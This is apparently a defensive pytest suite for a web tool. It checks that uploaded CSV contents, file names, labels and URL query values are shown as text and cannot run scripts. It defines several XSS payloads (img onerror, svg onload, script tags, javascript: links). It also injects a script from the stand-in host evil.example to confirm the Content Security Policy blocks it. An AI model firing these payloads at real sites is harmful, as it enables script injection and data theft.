"""What strangers write is text: in an address, a file, its name. No link runs a script."""

from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tools.pages import Tab, Tabs

IMG = "<img src=x onerror=alert(1)>"
PAYLOADS = (
    IMG,
    "&lt;img src=x onerror=alert(1)&gt;",
    "[x](javascript:alert(1))",
    "**bold** `code`",
    '"><script>alert(1)</script>',
    "<svg/onload=alert(1)>",
)
FIELDS = ("data", "hide", "preset", "n", "widths", "family", "theme", "lock", "eps_max")


@pytest.fixture(scope="module")
def page(tabs: Tabs, small: str) -> Iterator[Tab]:
    """A page for all these tests, which would tell of a dialog."""
    with tabs.lent() as tab:
        tab.page.on(
            "dialog", lambda dialog: (tab.console.append(f"uncaught: a dialog, {dialog.message}"), dialog.dismiss())
        )
        yield tab.open(small)


def markup(tab: Tab) -> int:
    """How many elements there are that a payload would make, wherever they stand."""
    made = ":is(img, svg[onload], script, strong, code, a, b)"
    return tab.page.locator(f"img[src=x], .ex-notices {made}, .remark {made}").count()


def test_a_file_and_its_name_too_and_the_second_time_as_well(page: Tab, small: str) -> None:
    page.turn(small)
    chooser = page.control("own").locator("input[type=file]")
    for cell in (IMG, PAYLOADS[1][:20], "<b>a</b>"):
        content = f"{IMG},b,y\n1,2,0\n{cell},2,1\n".encode()
        chooser.set_input_files([{"name": f"{IMG}.csv", "mimeType": "text/csv", "buffer": content}])
        page.page.locator(".ex-notices .notice", has_text=cell[:15]).wait_for()
        assert "<p" not in page.notice
        assert markup(page) == 0
        page.page.get_by_text(f"Uploaded {IMG}.csv").first.wait_for()


def test_so_are_its_labels_in_the_file_and_in_an_address(page: Tab, small: str) -> None:
    page.turn(small)
    names = (IMG, PAYLOADS[1], "<b>dog</b>")
    rows = [f"{i},{i * 5 % 13},{names[i % 3]}" for i in range(15)]
    buffer = "\n".join(["a,b,y", *rows]).encode()
    chooser = page.control("own").locator("input[type=file]")
    chooser.set_input_files([{"name": "x.csv", "mimeType": "text/csv", "buffer": buffer}])
    page.page.locator(".ex-notices .notice", has_text="3 labels").first.wait_for()
    page.until("() => /data=own-/.test(location.search)")
    for name in names:
        page.page.locator(".remark", has_text=name[:15]).first.wait_for()
    assert markup(page) == 0
    page.open(f"{page.page.url.partition('?')[2]}&labels={quote(names[2])},{quote(IMG)}")
    page.page.locator(".remark", has_text=names[2]).first.wait_for()
    assert page.control("labels").locator("input").input_value() == f"{names[2]},{IMG}"
    assert markup(page) == 0


def test_an_address_shows_what_it_says(page: Tab, small: str) -> None:
    fields = {name: PAYLOADS[i % len(PAYLOADS)] for i, name in enumerate(FIELDS)}
    query = "&".join(f"{name}={quote(value)}" for name, value in fields.items())
    page.open(f"{small}&{query}&{quote(IMG)}={quote(IMG)}")
    for value in set(fields.values()):
        assert value in page.notice
    assert f"{IMG!r} = {IMG!r}: no such setting" in page.notice
    assert markup(page) == 0


def test_no_script_that_got_into_a_page_would_run(page: Tab) -> None:
    """Its page is used no more: what it puts there stays."""
    page.page.evaluate(
        """() => {
          const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
          add('div', { innerHTML: '<img src="data:," onerror="window.ran = 1">' })
          add('a', { href: 'javascript:window.ran = 2', id: 'link' })
          add('script', { textContent: 'window.ran = 3' })
          add('script', { src: 'https://evil.example/x.js' })
          document.querySelector('#link').click()
        }"""
    )
    page.until("() => document.querySelector('img[onerror]').complete")
    assert page.page.evaluate("() => fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
    assert page.page.evaluate("() => window.ran ?? 'nothing ran'") == "nothing ran"
    refused = [line for line in page.console if "Content Security Policy" in line or "Refused to" in line]
    assert len(refused) >= 4
    page.console[:] = [line for line in page.console if line not in refused and "Failed to load" not in line]
    page.requested[:] = [url for url in page.requested if "evil.example" not in url]
